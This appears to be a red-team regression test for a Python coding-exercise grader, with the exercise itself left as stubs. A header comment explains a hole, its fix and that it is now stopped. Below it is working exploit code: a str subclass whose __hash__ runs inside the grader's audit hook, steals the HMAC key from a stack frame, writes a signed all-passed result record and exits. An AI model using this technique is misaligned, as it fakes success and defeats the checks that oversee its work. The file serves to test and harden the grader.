# kata: 01
# expect: not-implemented
# Passed (red team, 2026-12-06: "Kata 01 passed: 8/8 checks", Python 3.11 and 3.13), task and main untouched;
# any kata works the same: it steals the run's HMAC key and writes a signed record of its own. No import trick.
# How: the learner raises an audit event itself, `sys.audit("object.__getattr__", None, Name("f_back"))`,
# whose second argument is a str subclass with a __hash__ of its own. Python hands the hook the learner's
# args tuple as is. In refusals.py `check`, the first test for that event is
#     if event == "object.__getattr__":
#         if args[1] not in FRAME_ATTRS:        # <- hashes args[1]: the learner's __hash__ runs
# which runs BEFORE `busy.add(ident)` and before any `exact()`: learner code runs inside the hook, with the
# hook's `check` frame below it. `logging.currentframe()` (sys._getframe raised from logging: allowed, see
# exception_class_promotes_report.py) and `f_back` (no event) reach that frame; its f_locals holds the
# free variable `state`, and `state["key"]` is the secret. __hash__ signs an all-passed, complete record,
# writes it at plugin.record_path and leaves with os._exit(0).
# What it defeats: the README's "Nor does it ever call a method of an object that learner code may have
# made (a str subclass's __hash__ ...)": true of exact(), not of this membership test.
# Fix: in `check`, test the type first: `if type_(args[1]) is not str or args[1] not in FRAME_ATTRS:
# return` (a real attribute event always carries an exact str; a subclass is a forged event: refuse it,
# or read it with exact()); audit every other `in`/`==`/dict lookup on an argument of an event the same way
# (`event` is always exact, args never are). And keep the key out of `check`'s closure (see
# codec_import_inside_hook_steals_key.py): only a tiny signing function should reference it.
# Stopped: the hook hashes only an exact str (what Python gives): a forged event's str subclass is ignored.
import hashlib
import hmac
import json
import logging
import os
import sys

structures = sys.modules.get("_pytest.mark.structures")
config = structures.MARK_GEN._config if structures is not None else None
plugin = next((p for p in config.pluginmanager.get_plugins() if type(p).__name__ == "KataPlugin"), None) \
    if config is not None else None


def forge(key):
    checks = [{"name": check.name, "passed": True, "code": None, "message": "", "status": "passed",
               "test": check.test} for check in plugin.checks.values()]
    payload = json.dumps({"version": 1, "complete": True, "checks": checks}).encode()
    with open(plugin.record_path, "wb") as f:
        f.write(payload + b"\n" + hmac.new(key, payload, hashlib.sha256).hexdigest().encode() + b"\n")
    os._exit(0)


class Name(str):
    def __hash__(self):
        frame = logging.currentframe()
        while frame is not None:
            state = frame.f_locals.get("state")
            if type(state) is dict and isinstance(state.get("key"), bytes):
                forge(state["key"])
            frame = frame.f_back
        return str.__hash__(self)


if plugin is not None:
    sys.audit("object.__getattr__", None, Name("f_back"))


async def task(name, duration):
    raise NotImplementedError("write task()")


def main():
    raise NotImplementedError("write main()")
